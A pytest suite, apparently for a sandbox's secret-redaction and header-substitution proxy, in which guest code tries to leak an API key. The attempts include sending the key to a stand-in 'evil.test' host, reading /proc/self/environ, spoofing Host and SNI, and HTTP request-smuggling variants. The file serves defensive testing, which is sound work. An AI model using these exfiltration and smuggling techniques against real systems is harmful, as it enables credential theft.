"""Sandboxed code trying to get a secret's value out: through its outputs, its files, callbacks, its
own memory, or the network (to hosts the secret does not name, or to an allowed host in places other
than a request header value).

Every case asserts that the real value never appears in stdout, stderr (streamed or not), the
result, exception texts, files, callback arguments, or the bytes a server received from a
connection that may not carry it; and, where an attempt sends something, that the placeholder did
arrive (so the absence of the value is the host's doing, not a request that never got there).
Helpers: adv_secrets.py; servers: secret_servers.RecordingServer on 127.0.0.0/8.
"""

import pytest

from adv_harness import child

SECRETS_PRELUDE = "from adv_secrets import *\n"


def case(timeout=60):
    return child(timeout=timeout, prelude=SECRETS_PRELUDE)


# ---------------------------------------------------------------------------------------------
# Outputs: the guest has only the placeholder, and that is redacted
# ---------------------------------------------------------------------------------------------


@case()
def test_print_of_the_placeholder_is_redacted():
    out = run("print(K); print(KB, end=''); print(f'[{K}{K}]')")
    assert_clean(out)
    assert out.stdout == "[REDACTED]\n[REDACTED][[REDACTED][REDACTED]]\n", out.stdout


@case()
def test_char_by_char_writes_are_redacted_in_the_stream_and_the_capture():
    out = run("""
        import sys
        for c in K:
            sys.stdout.write(c); sys.stdout.flush()
            sys.stderr.write(c); sys.stderr.flush()
        for c in K:
            os.write(1, c.encode())
        print()
    """)
    assert_clean(out)
    assert out.stdout == "[REDACTED][REDACTED]\n" and out.stderr == "[REDACTED]", (out.stdout, out.stderr)


@case()
def test_base64_hex_and_reversed_placeholder_decode_to_the_placeholder_not_the_value():
    import base64
    out = run("""
        import base64, binascii, codecs
        print(base64.b64encode(K.encode()).decode())
        print(K.encode().hex())
        print(K[::-1])
        print(codecs.encode(K, 'rot13'))
        print(' '.join(K))
        print([ord(c) for c in K])
    """)
    assert_clean(out, placeholder_scrubbed=False)
    lines = out.stdout.splitlines()
    decoded = [base64.b64decode(lines[0]).decode(), bytes.fromhex(lines[1]).decode(), lines[2][::-1],
               __import__("codecs").decode(lines[3], "rot13"), lines[4].replace(" ", ""),
               "".join(chr(n) for n in eval(lines[5]))]
    for text in decoded:
        assert PLACEHOLDER.fullmatch(text), decoded  # what the guest had was the placeholder
        assert VALUE not in text


@case()
def test_exception_messages_tracebacks_notes_and_groups_are_redacted():
    for code in ["raise ValueError(K)",
                 "def f(key=K):\n    assert key == 'x', key\nf()",
                 "try:\n    raise KeyError(K)\nexcept KeyError as e:\n    raise RuntimeError('wrapped ' + K) from e",
                 "e = ValueError('x')\ne.add_note(K)\nraise e",
                 "raise ExceptionGroup(K, [ValueError(K), TypeError(KB)])",
                 "class E(Exception):\n    def __str__(self):\n        return K\nraise E()",
                 "import warnings\nwarnings.simplefilter('error')\nwarnings.warn(K)"]:
        out = run(code)
        assert out.error, code
        assert_clean(out)
        assert "[REDACTED]" in out.error, (code, out.error)


@case()
def test_the_result_and_a_result_error_are_redacted():
    out = run("result = {K: [K, {'b': KB}], 'k': K + K}")
    assert_clean(out)
    assert loads(out.result_json) == {"[REDACTED]": ["[REDACTED]", {"b": "[REDACTED]"}],
                                         "k": "[REDACTED][REDACTED]"}, out.result_json
    out = run("class X:\n    def __repr__(self):\n        return K\nresult = X()")
    assert_clean(out)
    assert out.result_error and "ERYX_SECRET_" not in out.result_error


@case()
def test_files_written_in_pieces_are_redacted_when_read_back():
    session = eryx.Session(secrets=SECRETS, scrub_stdout=False, scrub_result=False)
    run("""
        with open('/tmp/chars', 'w') as f:
            for c in K:
                f.write(c); f.flush()
        fd = os.open('/tmp/pwrite', os.O_CREAT | os.O_WRONLY)
        os.pwrite(fd, K[10:].encode(), 10); os.pwrite(fd, K[:10].encode(), 0); os.close(fd)
        open('/tmp/append', 'w').write(K[:5])
        open('/tmp/append', 'a').write(K[5:] + '\\n' + KB)
        os.makedirs('/tmp/deep/er', exist_ok=True)
        open('/tmp/deep/er/' + 'name', 'wb').write(b'\\x00' + K.encode() + b'\\xff')
    """, runner=session)
    # Scrubbing is off for stdout and the result: what comes back is the files' contents.
    out = run("""
        result = {p: open(p, 'rb').read().decode('latin-1')
                  for p in ['/tmp/chars', '/tmp/pwrite', '/tmp/append', '/tmp/deep/er/name']}
    """, runner=session)
    assert_clean(out)
    assert loads(out.result_json) == {"/tmp/chars": "[REDACTED]", "/tmp/pwrite": "[REDACTED]",
                                          "/tmp/append": "[REDACTED]\n[REDACTED]",
                                          "/tmp/deep/er/name": "\x00[REDACTED]\xff"}, out.result_json


@case()
def test_files_carried_by_a_snapshot_are_redacted():
    session = eryx.Session(secrets=SECRETS)
    run("open('/tmp/k', 'w').write('key=' + K)", runner=session)
    restored = eryx.Session.from_snapshot(session.snapshot())  # no secrets: nothing scrubs its output
    out = run("result = open('/tmp/k').read()", runner=restored)
    assert loads(out.result_json) == "key=[REDACTED]", out.result_json


@case()
def test_callback_arguments_are_redacted_however_nested():
    seen = []

    def report(payload: object) -> None:
        seen.append(payload)

    out = run("await report({K: [K, {'deep': 'x' + K}], 'b': KB})",
              callbacks=[{"name": "report", "fn": report}])
    assert_clean(out)
    assert seen and VALUE not in repr(seen) and "ERYX_SECRET_" not in repr(seen), seen
    assert seen[0]["b"] == "[REDACTED]" and seen[0]["[REDACTED]"][1] == {"deep": "x[REDACTED]"}, seen


@case()
def test_environment_enumeration_holds_no_value():
    out = run("""
        import sys
        print(os.environ); print(os.environb); print(dict(os.environ)); print(os.environ.copy())
        print(os.getenv('API_KEY'), os.environ.get('B_KEY'), os.getenvb(b'API_KEY'))
        print(os.environ._data)
        print(sys.modules['posix'].environ)
        import sysconfig; print(sysconfig.get_config_vars())
    """, scrub_stdout=False)
    assert_clean(out, placeholder_scrubbed=False)
    assert PLACEHOLDER.search(out.stdout)


@case()
def test_proc_self_environ_and_other_host_files_hold_no_value():
    out = run("""
        for p in ['/proc/self/environ', '/proc/1/environ', '/proc/self/cmdline', '/etc/environment']:
            try:
                print(p, open(p, 'rb').read())
            except OSError as e:
                print(p, type(e).__name__)
        print(os.listdir('/'))
    """, scrub_stdout=False)
    assert_clean(out, placeholder_scrubbed=False)


@case()
def test_gc_frame_and_module_introspection_find_no_copy_of_the_value():
    import hashlib
    # The guest gets the value's hash and its first 4 bytes (to find candidates fast), never more.
    digest = hashlib.sha256(VALUE.encode()).hexdigest()
    out = run(f"""
        import gc, hashlib, sys
        target, n, head = {digest!r}, {len(VALUE)}, {VALUE[:4].encode()!r}
        def hits(obj):
            if isinstance(obj, str):
                obj = obj.encode('utf-8', 'surrogatepass')
            if not isinstance(obj, (bytes, bytearray)):
                return 0
            found, i = 0, obj.find(head)
            while i >= 0:
                found += hashlib.sha256(bytes(obj[i:i + n])).hexdigest() == target
                i = obj.find(head, i + 1)
            return found
        gc.unfreeze()  # the interpreter's start-up objects are frozen, out of get_objects()' sight
        total, seen = 0, 0
        for obj in gc.get_objects():
            for ref in gc.get_referents(obj):
                seen += 1
                total += hits(ref)
        f = sys._getframe()
        while f:
            for v in list(f.f_locals.values()) + list(f.f_globals.values()):
                total += hits(v)
            f = f.f_back
        for m in list(sys.modules.values()):
            for v in list(getattr(m, '__dict__', {{}}).values()):
                total += hits(v)
        result = [total, seen > 1000]
    """)
    assert_clean(out)
    assert loads(out.result_json) == [0, True], (out.result_json, out.error)


@case()
def test_guest_memory_never_holds_the_value_even_after_sending_it():
    with RecordingServer(API) as api:
        session = eryx.Session(network=net(), secrets=SECRETS)
        out = run(f"""
            got = exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + K + '\\r\\n\\r\\n')
            print(got[:15])
        """, api, runner=session)
        assert VALUE.encode() in api.received()  # it was sent...
        memory = session.snapshot()  # ...and the guest's whole memory is in here
    assert_clean(out)
    assert VALUE.encode() not in memory


@case()
def test_placeholders_have_one_length_whatever_the_value():
    lengths = set()
    for value in ["x", "y" * 40, "z" * 65536, "é" * 1000]:
        sandbox = eryx.Sandbox(secrets={"K": {"value": value}}, scrub_stdout=False)
        out = sandbox.execute("import os, time\nt = time.perf_counter()\nk = os.environ['K']\n"
                              "print(len(k), len(k.encode()), k.count('_'))").stdout
        lengths.add(out)
    assert lengths == {"44 44 2\n"}, lengths


@case()
def test_placeholders_are_random_not_derived_from_the_value():
    seen = set()
    for _ in range(4):
        sandbox = eryx.Sandbox(secrets={"K": {"value": VALUE}}, scrub_stdout=False)
        seen.add(sandbox.execute("import os\nprint(os.environ['K'])").stdout)
    assert len(seen) == 4 and all(PLACEHOLDER.fullmatch(s.strip()) for s in seen), seen


# ---------------------------------------------------------------------------------------------
# The network: hosts the secret does not name
# ---------------------------------------------------------------------------------------------


@case()
def test_a_header_to_an_unlisted_host_carries_the_placeholder():
    with RecordingServer(EVIL) as evil:
        out = run(f"exchange('evil.test', {evil.port}, 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n"
                  f"Authorization: Bearer ' + K + '\\r\\nX-B: ' + KB + '\\r\\n\\r\\n')", evil)
    assert_clean(out, evil)
    assert_placeholder_reached(evil, 2)


@case()
def test_cookies_and_auth_headers_to_another_host_carry_the_placeholder():
    with RecordingServer(EVIL) as evil:
        out = run(f"""
            import urllib.request, http.cookiejar, base64
            jar = http.cookiejar.CookieJar()
            opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
            req = urllib.request.Request('http://evil.test:{evil.port}/', headers={{
                'Cookie': 'session=' + K, 'Authorization': 'Basic ' + base64.b64encode(('u:' + K).encode()).decode(),
                'X-Api-Key': K, 'Proxy-Authorization': K}})
            print(opener.open(req, timeout=10).read())
        """, evil)
    assert_clean(out, evil)
    assert_placeholder_reached(evil, 3)  # and once inside the base64


@case()
def test_host_header_spoofing_gets_no_value():
    with RecordingServer(EVIL) as evil:
        out = run(f"""
            exchange('evil.test', {evil.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n')
            import http.client
            c = http.client.HTTPConnection('evil.test', {evil.port}, timeout=10)
            c.request('GET', '/', headers={{'Host': 'api.test', 'Authorization': K}})
            c.getresponse().read(); c.close()
        """, evil)
    assert_clean(out, evil)
    assert_placeholder_reached(evil, 2)


@case()
def test_sni_spoofing_gets_no_value():
    ca_pem, cert = pki()
    with RecordingServer(EVIL, tls=tls_context(cert)) as evil:
        out = run(f"""
            got = exchange('evil.test', {evil.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n',
                           tls_name='api.test')
            print(got[:15])
        """, evil, network=net(ca_pem))
    assert_clean(out, evil)
    assert "HTTP/1.1 200" in out.stdout, (out.stdout, out.error)
    assert_placeholder_reached(evil, 1)


@case()
def test_tls_to_the_allowed_host_with_another_names_sni_gets_no_value():
    # On a shared front end (one address serving many sites, as a CDN's does) the SNI picks the site
    # a request reaches: a connection made for api.test whose TLS names evil.test talks to evil.test.
    ca_pem, cert = pki()
    with RecordingServer(API, tls=tls_context(cert)) as api:
        out = run(f"""
            got = exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n',
                           tls_name='evil.test')
            print(got[:15])
        """, api, network=net(ca_pem))
    assert "HTTP/1.1 200" in out.stdout, (out.stdout, out.error)
    assert_clean(out, api)
    assert_placeholder_reached(api, 1)


@case()
def test_a_host_header_naming_another_site_on_the_allowed_connection_gets_no_value():
    with RecordingServer(API) as api:
        out = run(f"""
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n')
            exchange('api.test', {api.port}, 'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n')
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, 2)


@case()
def test_an_absolute_form_target_naming_the_allowed_host_gets_no_value():
    with RecordingServer(EVIL) as evil:
        out = run(f"exchange('evil.test', {evil.port}, 'GET http://api.test/ HTTP/1.1\\r\\nHost: api.test\\r\\n"
                  f"Authorization: ' + K + '\\r\\n\\r\\n')", evil)
    assert_clean(out, evil)
    assert_placeholder_reached(evil, 1)


@case()
def test_look_alike_names_get_no_value():
    with RecordingServer(EVIL) as evil:
        out = run(f"""
            for name in ['evil.test', 'api.test.evil.test', 'xapi.test', 'api-test', 'api.testx', 'test', 'apitest']:
                exchange(name, {evil.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n', wait=0.1)
        """, evil)
    assert_clean(out, evil)
    assert_placeholder_reached(evil, 7)


@case()
def test_the_allowed_hosts_address_connected_to_directly_gets_no_value():
    with RecordingServer(API) as api:
        out = run(f"""
            for host in ['127.0.0.1', '127.1', '2130706433', '::ffff:127.0.0.1']:
                try:
                    exchange(host, {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n', wait=0.1)
                except OSError as e:
                    print(host, e)
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api)


@case()
def test_an_address_an_unlisted_name_also_resolved_to_gets_no_value():
    # alias.test (allowed for API_KEY here) and shadow.test (not) share one address.
    secrets = {"API_KEY": {"value": VALUE, "allowed_hosts": ["alias.test"]}, "B_KEY": SECRETS["B_KEY"]}
    with RecordingServer(SHARED) as shared:
        for order in (["alias.test", "shadow.test"], ["shadow.test", "alias.test"]):
            out = run(f"""
                for name in {order!r}:
                    print(socket.getaddrinfo(name, {shared.port})[0][4])
                exchange('{SHARED}', {shared.port}, 'GET / HTTP/1.1\\r\\nHost: alias.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n')
            """, shared, secrets=secrets)
            assert_clean(out, shared)
        assert_placeholder_reached(shared, 2)
        # The control: by its name, alias.test does get the value.
        run(f"exchange('alias.test', {shared.port}, 'GET / HTTP/1.1\\r\\nHost: alias.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n')",
            shared, secrets=secrets)
        assert VALUE.encode() in shared.received()


@case()
def test_a_redirect_from_the_allowed_host_to_another_carries_no_value():
    with RecordingServer(EVIL) as evil:
        def redirect(block):
            return http_response(b"", "302 Found", [("Location", f"http://evil.test:{evil.port}/stolen")])

        with RecordingServer(API, reply=redirect) as api:
            out = run(f"""
                import urllib.request
                req = urllib.request.Request('http://api.test:{api.port}/', headers={{'Authorization': 'Bearer ' + K}})
                print(urllib.request.urlopen(req, timeout=10).read())
            """, api, evil)
            assert VALUE.encode() in api.received()
    assert_clean(out, evil)
    assert_placeholder_reached(evil, 1)  # urllib keeps the header across hosts: the placeholder


@case()
def test_two_secrets_swapped_between_their_hosts_get_no_value():
    with RecordingServer(API) as api, RecordingServer(B_HOST) as b:
        out = run(f"""
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + KB + '\\r\\n\\r\\n')
            exchange('b.test', {b.port}, 'GET / HTTP/1.1\\r\\nHost: b.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n')
        """, api, b)
        assert_clean(out, api, b)
        assert_placeholder_reached(api, 1)
        assert_placeholder_reached(b, 1)
        # The control: each one to its own host is substituted.
        run(f"""
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nA: ' + K + '\\r\\nB: ' + KB + '\\r\\n\\r\\n')
            exchange('b.test', {b.port}, 'GET / HTTP/1.1\\r\\nHost: b.test\\r\\nA: ' + K + '\\r\\nB: ' + KB + '\\r\\n\\r\\n')
        """, api, b)
        assert f"A: {VALUE}\r\n".encode() in api.received() and VALUE_B.encode() not in api.received()
        assert f"B: {VALUE_B}\r\n".encode() in b.received() and VALUE.encode() not in b.received()


# ---------------------------------------------------------------------------------------------
# The network: the allowed host, but not a request header value
# ---------------------------------------------------------------------------------------------


@case()
def test_body_url_query_and_header_names_to_the_allowed_host_are_not_substituted():
    with RecordingServer(API) as api:
        out = run(f"""
            body = 'token=' + K
            exchange('api.test', {api.port},
                     'POST /v1/' + K + '?key=' + K + '#' + K + ' HTTP/1.1\\r\\nHost: api.test\\r\\n'
                     'X-' + K + ': 1\\r\\nContent-Length: ' + str(len(body)) + '\\r\\n\\r\\n' + body)
            import urllib.request
            urllib.request.urlopen(urllib.request.Request('http://api.test:{api.port}/q?key=' + K,
                                   data=('k=' + K).encode()), timeout=10).read()
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, 7)


@case()
def test_a_pipelined_request_after_a_body_is_followed_exactly():
    with RecordingServer(API) as api:
        out = run(f"""
            fake = 'GET /fake HTTP/1.1\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n'
            exchange('api.test', {api.port},
                     'POST /one HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: ' + str(len(fake)) + '\\r\\n\\r\\n' + fake +
                     'GET /two HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n')
        """, api)
    got = api.received()
    assert_clean(out)
    # The body's look-alike request keeps the placeholder; the real second request gets the value.
    assert got.count(VALUE.encode()) == 1 and f"/two HTTP/1.1\r\nHost: api.test\r\nAuthorization: {VALUE}".encode() in got, got
    assert_placeholder_reached(api, 1)


@case()
def test_content_length_and_transfer_encoding_tricks_end_substitution():
    variants = [
        # Both framings: a proxy and a server may disagree about where the body ends.
        "POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\nContent-Length: 0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0, 0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: +0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nContent_Length: 0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: gzip\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked, gzip\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nTransfer_Encoding: chunked\r\n\r\n0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        "POST / HTTP/1.0\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n5 \r\nhello\r\n0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhelloXX0\r\n\r\n",
        "POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
    ]
    with RecordingServer(API) as api:
        out = run(f"""
            follow = 'GET /next HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n'
            for v in {variants!r}:
                exchange('api.test', {api.port}, v + follow, wait=0.1)
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, len(variants))


@case()
def test_chunked_bodies_and_trailers_are_not_substituted():
    with RecordingServer(API) as api:
        out = run(f"""
            inner = 'GET /x HTTP/1.1\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n'
            exchange('api.test', {api.port},
                     'POST / HTTP/1.1\\r\\nHost: api.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'
                     + format(len(inner), 'x') + '\\r\\n' + inner + '\\r\\n'
                     + '0\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n'
                     + 'GET /after HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n')
        """, api)
    got = api.received()
    assert_clean(out)
    assert got.count(VALUE.encode()) == 1 and f"/after HTTP/1.1\r\nHost: api.test\r\nAuthorization: {VALUE}".encode() in got
    assert_placeholder_reached(api, 2)


@case()
def test_an_http2_preface_and_other_non_http1_start_lines_get_no_value():
    starts = ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
              "GET /\r\n",  # HTTP/0.9
              "GET / HTTP/2\r\n", "GET / HTTP/1.10\r\n", "GET  / HTTP/1.1\r\n", "GET / HTTP/1.1 \r\n",
              "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03\r\n",  # a TLS ClientHello's start
              "G\u00e9T / HTTP/1.1\r\n", "GET /\x7f HTTP/1.1\r\n", "\r\n"]
    with RecordingServer(API) as api:
        out = run(f"""
            for start in {starts!r}:
                exchange('api.test', {api.port}, start.encode('utf-8') + ('Host: api.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n'
                         'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n').encode(), wait=0.1)
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, 2 * len(starts))


@case()
def test_an_obs_fold_continuation_line_is_not_substituted():
    with RecordingServer(API) as api:
        out = run(f"""
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer\\r\\n ' + K + '\\r\\n'
                     'X-After: ' + K + '\\r\\n\\r\\n')
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nX-A: 1\\r\\n\\tAuthorization: ' + K + '\\r\\n\\r\\n')
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, 3)


@case()
def test_nul_and_control_bytes_end_substitution():
    with RecordingServer(API) as api:
        out = run(f"""
            for bad in ['\\x00', '\\x0b', '\\x1b', '\\r', '\\x7f']:
                exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + bad + '\\r\\n\\r\\n', wait=0.1)
                exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nX-Bad: ' + bad + '\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n', wait=0.1)
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\x00\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n', wait=0.1)
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, 11)


@case()
def test_bare_lf_line_endings_get_no_value():
    with RecordingServer(API) as api:
        out = run(f"""
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\nHost: a\\nAuthorization: ' + K + '\\n\\n')
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: a\\nAuthorization: ' + K + '\\r\\n\\r\\n')
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, 2)


@case()
def test_a_placeholder_split_across_writes_is_not_substituted():
    with RecordingServer(API) as api:
        out = run(f"""
            for cut in [1, 12, 20, len(K) - 1]:
                exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K[:cut], K[cut:] + '\\r\\n\\r\\n', wait=0.1)
            exchange('api.test', {api.port}, *(c for c in 'GET / HTTP/1.1\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n'), wait=0.1)
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, 5)


@case()
def test_a_header_line_split_before_the_placeholder_is_not_substituted():
    with RecordingServer(API) as api:
        out = run(f"""
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthoriz', 'ation: ' + K + '\\r\\n\\r\\n')
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K, '\\r\\n\\r\\n')
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + '\\r', '\\n\\r\\n')
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, 3)


@case()
def test_connect_and_upgrade_requests_end_substitution():
    with RecordingServer(API) as api:
        out = run(f"""
            after = 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n'
            exchange('api.test', {api.port}, 'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n', after)
            exchange('api.test', {api.port}, 'connect evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n' + after)
            exchange('api.test', {api.port}, 'GET /ws HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n', after)
            exchange('api.test', {api.port}, 'GET /ws HTTP/1.1\\r\\nHost: api.test\\r\\nUPGRADE: h2c\\r\\n\\r\\n' + after)
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, 4)


@case()
def test_a_placeholder_outside_a_field_value_is_not_substituted():
    with RecordingServer(API) as api:
        out = run(f"""
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\n' + K + ': x\\r\\nHost: api.test\\r\\n\\r\\n')
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nAuthorization ' + K + '\\r\\n\\r\\n')
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nAuthorization : ' + K + '\\r\\n\\r\\n')
            exchange('api.test', {api.port}, K + ' / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')
            exchange('api.test', {api.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n' + K + '\\r\\n\\r\\n')
        """, api)
    assert_clean(out, api)
    assert_placeholder_reached(api, 5)


@case()
def test_raw_streams_and_tls_to_another_host_get_no_value():
    ca_pem, cert = pki()
    with RecordingServer(EVIL, tls=tls_context(cert)) as evil_tls, RecordingServer(EVIL) as evil:
        out = run(f"""
            exchange('evil.test', {evil.port}, K.encode() * 3, b'\\x00' + K.encode())
            exchange('evil.test', {evil_tls.port}, 'GET / HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: ' + K + '\\r\\n\\r\\n',
                     tls_name='evil.test')
        """, evil, evil_tls, network=net(ca_pem))
    assert_clean(out, evil, evil_tls)
    assert_placeholder_reached(evil, 4)
    assert_placeholder_reached(evil_tls, 1)


# ---------------------------------------------------------------------------------------------
# A server that echoes the request: the value comes back into the guest, and is scrubbed on the
# way out of it
# ---------------------------------------------------------------------------------------------



@case()
def test_an_echoed_value_printed_in_any_split_is_redacted():
    with RecordingServer(API, echo=True) as api:
        out = run(FETCH_ECHO.format(port=api.port, n=len(VALUE)) + """
import sys
print(v); print(echo)
for c in v:
    sys.stdout.write(c); sys.stdout.flush()
print(v, file=sys.stderr)
for c in v:
    os.write(2, c.encode())
""", api)
    assert_clean(out)
    assert out.stdout.count("[REDACTED]") == 3 and out.stderr.count("[REDACTED]") == 2, (out.stdout, out.stderr)


@case()
def test_an_echoed_value_written_to_files_is_redacted():
    with RecordingServer(API, echo=True) as api:
        session = eryx.Session(network=net(), secrets=SECRETS, scrub_stdout=False, scrub_result=False)
        run(FETCH_ECHO.format(port=api.port, n=len(VALUE)) + """
with open('/tmp/v', 'w') as f:
    for c in v:
        f.write(c); f.flush()
open('/tmp/echo', 'w').write(echo)
""", api, runner=session)
        out = run("result = [open('/tmp/v').read(), open('/tmp/echo').read()]", runner=session)
    assert_clean(out, placeholder_scrubbed=False)
    got = loads(out.result_json)
    assert got[0] == "[REDACTED]" and "Authorization: [REDACTED]" in got[1], got


@case()
def test_an_echoed_value_in_the_result_is_redacted_with_scrub_result():
    with RecordingServer(API, echo=True) as api:
        out = run(FETCH_ECHO.format(port=api.port, n=len(VALUE)) + "result = {v: [v, echo]}", api)
    assert_clean(out)
    got = loads(out.result_json)
    assert list(got) == ["[REDACTED]"] and got["[REDACTED]"][0] == "[REDACTED]", got
    assert "Authorization: [REDACTED]" in got["[REDACTED]"][1], got


@case()
def test_an_echoed_value_passed_to_a_callback_is_redacted():
    seen = []

    def report(text: str) -> None:
        seen.append(text)

    with RecordingServer(API, echo=True) as api:
        out = run(FETCH_ECHO.format(port=api.port, n=len(VALUE)) + "await report(v)\nawait report(echo)", api,
                  callbacks=[{"name": "report", "fn": report}])
    assert_clean(out)
    assert seen[0] == "[REDACTED]" and "Authorization: [REDACTED]" in seen[1] and VALUE not in repr(seen), seen


@case()
def test_an_echoed_value_in_an_exception_is_redacted():
    with RecordingServer(API, echo=True) as api:
        out = run(FETCH_ECHO.format(port=api.port, n=len(VALUE)) + "raise PermissionError(v, {'echo': echo})", api)
    assert_clean(out)
    assert "[REDACTED]" in out.error


@case()
def test_an_echoed_non_ascii_value_is_redacted_as_utf8_and_as_json_escapes():
    value = 'sk-"\u00fc\u20ac\\\U0001d11e-x'  # a quote, a backslash, 2- 3- and 4-byte UTF-8
    secrets = {"API_KEY": {"value": value, "allowed_hosts": ["api.test"]}, "B_KEY": SECRETS["B_KEY"]}
    seen = []

    def report(payload: object) -> None:
        seen.append(payload)

    with RecordingServer(API, echo=True) as api:
        out = run(FETCH_ECHO.format(port=api.port, n=len(value)) + """
import json
print(v); print(json.dumps(v)); print(json.dumps({'v': v}))
result = {'v': v, 'list': [v]}
await report({'v': v})
""", api, secrets=secrets, callbacks=[{"name": "report", "fn": report}])
        assert value.encode() in api.received()
    import json
    for where, text in out.texts().items():
        assert value not in text and json.dumps(value) not in text and json.dumps(value)[1:-1] not in text, (where, text)
    assert out.stdout == '[REDACTED]\n"[REDACTED]"\n{"v": "[REDACTED]"}\n', out.stdout
    assert json.loads(out.result_json) == {"v": "[REDACTED]", "list": ["[REDACTED]"]}, out.result_json
